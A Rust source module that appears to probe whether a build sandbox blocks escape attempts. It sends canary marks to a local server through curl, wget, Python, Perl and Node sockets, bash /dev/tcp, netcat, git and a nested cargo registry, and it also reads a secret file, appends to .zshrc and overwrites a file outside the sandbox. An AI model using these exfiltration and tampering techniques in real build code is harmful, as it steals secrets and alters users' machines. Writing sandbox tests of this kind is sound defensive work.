//! The same, through programs that a build finds on most machines.

use std::process::{Command, Stdio};

use super::{fact, home, mark, secret, target, text, Action, Done};

pub const ACTIONS: &[Action] = &[
    ("curl", curl),
    ("curl-unix", curl_unix),
    ("wget", wget),
    ("python", python),
    ("perl", perl),
    ("node", node),
    ("bash-dev-tcp", bash),
    ("netcat", netcat),
    ("git-daemon", git),
    ("nested-cargo-fetch", nested_cargo),
    ("child-cat", child_cat),
    ("child-shell-append", child_shell_append),
    ("child-cp-preserve", child_cp),
];

/// Where the mark goes: a path of the canary server.
fn url(name: &str) -> String {
    format!("http://127.0.0.1:{}/{}", fact("port.tcp"), mark(name))
}

fn run(program: &str, arguments: &[&str]) -> Done {
    let output = Command::new(program)
        .args(arguments)
        .stdin(Stdio::null())
        .output()
        .map_err(|e| match e.kind() {
            std::io::ErrorKind::NotFound => format!("absent: {program}"),
            _ => text(e),
        })?;
    let said = [output.stdout, output.stderr].concat();
    let said = String::from_utf8_lossy(&said).into_owned();
    if output.status.success() {
        Ok(said)
    } else {
        Err(format!("{}: {said}", output.status))
    }
}

fn curl(name: &str) -> Done {
    run(
        "curl",
        &[
            "--silent",
            "--globoff",
            "--max-time",
            "3",
            "--noproxy",
            "*",
            &url(name),
        ],
    )
}

fn curl_unix(name: &str) -> Done {
    let socket = home("run/stream");
    let address = format!("http://agent/{}", mark(name));
    let socket = socket.to_str().unwrap();
    run(
        "curl",
        &[
            "--silent",
            "--globoff",
            "--max-time",
            "3",
            "--unix-socket",
            socket,
            &address,
        ],
    )
}

fn wget(name: &str) -> Done {
    run(
        "wget",
        &[
            "--quiet",
            "--no-proxy",
            "--tries=1",
            "--timeout=3",
            "-O-",
            &url(name),
        ],
    )
}

fn python(name: &str) -> Done {
    let code = format!(
        "import socket\ns = socket.create_connection(('127.0.0.1', {}), 3)\ns.send(b'{}')",
        fact("port.tcp"),
        mark(name)
    );
    run("python3", &["-c", &code])
}

fn perl(name: &str) -> Done {
    let code = format!(
        "use IO::Socket::INET; my $s = IO::Socket::INET->new('127.0.0.1:{}') or die $!; print $s '{}'",
        fact("port.tcp"),
        mark(name)
    );
    run("perl", &["-e", &code])
}

fn node(name: &str) -> Done {
    let code = format!(
        "require('net').connect({}, '127.0.0.1', function () {{ this.end('{}') }})",
        fact("port.tcp"),
        mark(name)
    );
    run("node", &["-e", &code])
}

fn bash(name: &str) -> Done {
    let code = format!(
        "echo '{}' > /dev/tcp/127.0.0.1/{}",
        mark(name),
        fact("port.tcp")
    );
    run("bash", &["-c", &code])
}

fn netcat(name: &str) -> Done {
    let code = format!(
        "command -v nc >/dev/null || exit 42; echo '{}' | nc -w 2 127.0.0.1 {}",
        mark(name),
        fact("port.tcp")
    );
    run("sh", &["-c", &code]).map_err(|e| {
        if e.contains("status: 42") {
            "absent: nc".into()
        } else {
            e
        }
    })
}

fn git(name: &str) -> Done {
    let address = format!("git://127.0.0.1:{}/{}", fact("port.tcp"), mark(name));
    run("timeout", &["3", "git", "ls-remote", &address])
}

/// The build is offline by a variable only, as far as cargo knows.
fn nested_cargo(name: &str) -> Done {
    let folder = target(name);
    std::fs::create_dir_all(folder.join("src")).map_err(text)?;
    std::fs::create_dir_all(folder.join("home")).map_err(text)?;
    std::fs::write(folder.join("src/lib.rs"), "").map_err(text)?;
    std::fs::write(
        folder.join("Cargo.toml"),
        "[package]\nname='n'\nversion='0.0.0'\n[workspace]\n[dependencies]\nanyhow='1'\n",
    )
    .map_err(text)?;
    let config = format!(
        "source.crates-io.replace-with='c2'\nsource.c2.registry='sparse+{}/'\n[net]\nretry=0\n",
        url(name)
    );
    std::fs::write(folder.join("home/config.toml"), config).map_err(text)?;
    let output = Command::new(std::env::var_os("CARGO").unwrap_or("cargo".into()))
        .arg("generate-lockfile")
        .current_dir(&folder)
        .env("CARGO_HOME", folder.join("home"))
        .env("CARGO_NET_OFFLINE", "false")
        .env("CARGO_HTTP_TIMEOUT", "2")
        .stdin(Stdio::null())
        .output()
        .map_err(text)?;
    Ok(String::from_utf8_lossy(&output.stderr).into_owned())
}

fn child_cat(name: &str) -> Done {
    run("cat", &[secret(name).to_str().unwrap()])
}

fn child_shell_append(name: &str) -> Done {
    run(
        "sh",
        &[
            "-c",
            &format!("echo '{}' >> '{}'", mark(name), home(".zshrc").display()),
        ],
    )
}

/// `cp` of a file over one outside.
fn child_cp(name: &str) -> Done {
    let from = target(name);
    std::fs::write(&from, mark(name)).map_err(text)?;
    run(
        "cp",
        &[
            "-p",
            from.to_str().unwrap(),
            super::victim(name).to_str().unwrap(),
        ],
    )
}
